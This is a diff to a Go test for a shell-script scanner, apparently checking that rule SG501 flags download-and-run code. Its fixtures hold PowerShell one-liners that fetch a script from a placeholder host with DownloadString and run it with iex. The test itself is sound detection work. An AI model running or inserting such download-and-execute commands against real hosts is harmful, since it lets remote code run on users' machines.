@@ -63,8 +63,8 @@ func TestShellRules(t *testing.T) {
 		},
 		{
 			name:  "a shell script's PowerShell-style pattern of SG501 is kept",
-			files: map[string]string{"w.sh": "pwsh -c 'iex (New-Object Net.WebClient).DownloadString(\"https://x.invalid\")'\n"},
-			want:  []string{"SG501 critical w.sh:1:10 downloads code and runs it"},
+			files: map[string]string{"w.sh": "wine cmd /c \"iex (New-Object Net.WebClient).DownloadString('https://x.invalid')\"\n"},
+			want:  []string{"SG501 critical w.sh:1:14 downloads code and runs it"},
 		},
 		{
 			name:  "not a shell script: a Python file keeps SG501 and no shell rule",
